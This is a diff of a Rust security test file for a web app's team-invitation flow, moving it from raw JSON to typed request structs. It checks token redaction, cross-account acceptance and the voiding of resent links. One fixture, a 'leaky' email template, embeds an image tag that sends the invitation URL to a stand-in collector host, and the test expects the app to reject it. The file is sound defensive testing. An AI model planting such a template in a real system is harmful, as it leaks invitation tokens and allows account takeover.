@@ -1,13 +1,31 @@
 //! Invitations as an attacker would try them: no token in any response or stored email, no
 //! password checked (so none can be guessed), a resent link voids the old one.
 
-use serde_json::json;
+use openapi::auth::{MeOut, TokensOut};
+use openapi::mail::{EmailOut, TemplateIn, TemplateOut};
+use openapi::tenancy::{InvitationAcceptIn, InvitationIn, Role};
 
 use crate::db_test;
 use crate::harness::TestApp;
 use crate::harness::client::PASSWORD;
 use crate::harness::mailbox::token_in;
-use crate::mail::emails;
+use crate::mail::email_log;
+
+fn invitation(email: &str, role: Role) -> InvitationIn {
+    InvitationIn {
+        email: email.into(),
+        role,
+    }
+}
+
+/// Accepting with a token, and a name and password when a new account is made.
+fn acceptance(token: &str, name: Option<&str>, password: Option<&str>) -> InvitationAcceptIn {
+    InvitationAcceptIn {
+        token: token.into(),
+        name: name.map(Into::into),
+        password: password.map(Into::into),
+    }
+}
 
 /// Every stored row an API or a person with database reads could see, as text: the email
 /// log, idempotent responses, the outbox's payloads and the audit log.
@@ -63,7 +81,7 @@ db_test!(
             .post("/api/v1/invitations")
             .as_(&stranger)
             .header("idempotency-key", "invite-vitoria")
-            .json(&json!({ "email": victim.email, "role": "staff" }))
+            .json(&invitation(&victim.email, Role::Staff))
             .send()
             .await
             .expect(201);
@@ -81,7 +99,7 @@ db_test!(
                 "/api/v1/auth/browser/invitations/accept",
             ] {
                 app.post(path)
-                    .json(&json!({ "token": token, "name": "Eve", "password": password }))
+                    .json(&acceptance(&token, Some("Eve"), Some(password)))
                     .send()
                     .await
                     .problem(409, "tenancy/sign-in-to-accept");
@@ -90,32 +108,30 @@ db_test!(
         // Signed in to another account, it is not theirs to accept.
         app.post("/api/v1/invitations/accept")
             .as_(&stranger)
-            .json(&json!({ "token": token }))
+            .json(&acceptance(&token, None, None))
             .send()
             .await
             .problem(403, "tenancy/invitation-for-another-account");
         // Signed in, the invited account joins without sending any password.
         app.post("/api/v1/invitations/accept")
             .as_(&victim)
-            .json(&json!({ "token": token, "password": PASSWORD }))
+            .json(&acceptance(&token, None, Some(PASSWORD)))
             .send()
             .await
             .problem(422, "request/validation");
-        let joined = app
+        let joined: TokensOut = app
             .post("/api/v1/invitations/accept")
             .as_(&victim)
-            .json(&json!({ "token": token }))
-            .send()
-            .await
-            .expect(200);
-        let me = app
+            .json(&acceptance(&token, None, None))
+            .returns(200)
+            .await;
+        let me: MeOut = app
             .get("/api/v1/me")
-            .token(joined.body["access_token"].as_str().unwrap())
-            .send()
-            .await
-            .expect(200);
-        assert_eq!(me.body["tenant"]["id"], json!(stranger.tenant_id));
-        assert_eq!(me.body["role"], "staff");
+            .token(&joined.access_token)
+            .returns(200)
+            .await;
+        assert_eq!(me.tenant.id, stranger.tenant_id);
+        assert_eq!(me.role, Role::Staff);
         // Nothing stored holds the token, and the outbox let go of it once the email went.
         assert!(!stored_text(&app).await.contains(&token));
         assert_eq!(outbox_secrets(&app).await, Vec::<String>::new());
@@ -128,42 +144,28 @@ db_test!(
         let owner = app.signup("Olga").await;
         app.post("/api/v1/invitations")
             .as_(&owner)
-            .json(&json!({ "email": "paulo@olga.example.com", "role": "viewer" }))
+            .json(&invitation("paulo@olga.example.com", Role::Viewer))
             .send()
             .await
             .expect(201);
         let first = app.invitation_token("paulo@olga.example.com").await;
-        let log = app
-            .get("/api/v1/emails?kind=member_invitation")
-            .as_(&owner)
-            .send()
-            .await
-            .expect(200);
-        let email_id = log.body["items"][0]["id"].as_str().unwrap().to_owned();
-        let resent = app
+        let email_id = email_log(&app, &owner, "?kind=member_invitation").await[0].id;
+        let resent: EmailOut = app
             .post(&format!("/api/v1/emails/{email_id}/resend"))
             .as_(&owner)
-            .send()
-            .await
-            .expect(201);
-        assert!(
-            resent.body["text"]
-                .as_str()
-                .unwrap()
-                .contains("token=[redacted]"),
-            "{:#}",
-            resent.body
-        );
+            .returns(201)
+            .await;
+        assert!(resent.text.contains("token=[redacted]"), "{resent:#?}");
         let sent = app.mail_to("paulo@olga.example.com", 2).await;
         let second = token_in(&sent[1].text()).unwrap();
         assert_ne!(first, second);
         app.post("/api/v1/invitations/accept")
-            .json(&json!({ "token": first, "name": "Paulo", "password": PASSWORD }))
+            .json(&acceptance(&first, Some("Paulo"), Some(PASSWORD)))
             .send()
             .await
             .problem(404, "not-found");
         app.post("/api/v1/invitations/accept")
-            .json(&json!({ "token": second, "name": "Paulo", "password": PASSWORD }))
+            .json(&acceptance(&second, Some("Paulo"), Some(PASSWORD)))
             .send()
             .await
             .expect(200);
@@ -185,7 +187,7 @@ db_test!(
         let owner = app.signup("Heitor").await;
         app.post("/api/v1/invitations")
             .as_(&owner)
-            .json(&json!({ "email": "nova@equipe.example.com", "role": "staff" }))
+            .json(&invitation("nova@equipe.example.com", Role::Staff))
             .send()
             .await
             .expect(201);
@@ -200,11 +202,11 @@ db_test!(
                 .html()
                 .contains(&format!("accept-invitation?token={token}"))
         );
-        let log = emails(&app, &owner, "?kind=member_invitation").await;
+        let log = email_log(&app, &owner, "?kind=member_invitation").await;
         assert_eq!(log.len(), 1);
-        assert_eq!(log[0]["to"], "nova@equipe.example.com");
-        assert_eq!(log[0]["subject"], "Convite para a equipe da Loja Heitor");
-        let body = log[0]["text"].as_str().unwrap();
+        assert_eq!(log[0].to, "nova@equipe.example.com");
+        assert_eq!(log[0].subject, "Convite para a equipe da Loja Heitor");
+        let body = &log[0].text;
         assert!(
             body.contains("http://retaguarda.test/accept-invitation?token=[redacted]"),
             "{body}"
@@ -218,11 +220,11 @@ db_test!(
     |app| {
         let owner = app.signup("Zelia").await;
         // Written by the store, the link could be sent elsewhere (an image's address, say).
-        let leaky = json!({
-            "subject": "Convite",
-            "text": "{{ invitation.url }}",
-            "html": "<img src=\"https://collector.example/?{{ invitation.url }}\">",
-        });
+        let leaky = TemplateIn {
+            subject: "Convite".into(),
+            text: "{{ invitation.url }}".into(),
+            html: "<img src=\"https://collector.example/?{{ invitation.url }}\">".into(),
+        };
         app.call(
             reqwest::Method::PUT,
             "/api/v1/mail/templates/member_invitation/pt-BR",
@@ -232,21 +234,16 @@ db_test!(
         .send()
         .await
         .problem(422, "mail/template-not-editable");
-        let templates = app
+        let templates: Vec<TemplateOut> = app
             .get("/api/v1/mail/templates")
             .as_(&owner)
-            .send()
-            .await
-            .expect(200);
+            .returns(200)
+            .await;
         assert!(
             templates
-                .body
-                .as_array()
-                .unwrap()
                 .iter()
-                .all(|t| t["kind"] != "member_invitation"),
-            "{:#}",
-            templates.body
+                .all(|t| t.kind != openapi::mail::EmailKind::MemberInvitation),
+            "{templates:#?}"
         );
         // One saved before this rule (written below the API) is not used either.
         use sea_orm::EntityTrait;
@@ -256,8 +253,8 @@ db_test!(
             kind: "member_invitation".into(),
             locale: "pt-BR".into(),
             subject: "Convite".into(),
-            text_body: leaky["text"].as_str().unwrap().into(),
-            html_body: leaky["html"].as_str().unwrap().into(),
+            text_body: leaky.text.clone(),
+            html_body: leaky.html.clone(),
             updated_at: chrono::Utc::now(),
         };
         entity::email_template::Entity::insert(entity::email_template::ActiveModel::from(saved))
@@ -266,7 +263,7 @@ db_test!(
             .unwrap();
         app.post("/api/v1/invitations")
             .as_(&owner)
-            .json(&json!({ "email": "ze@zelia.example.com", "role": "staff" }))
+            .json(&invitation("ze@zelia.example.com", Role::Staff))
             .send()
             .await
             .expect(201);
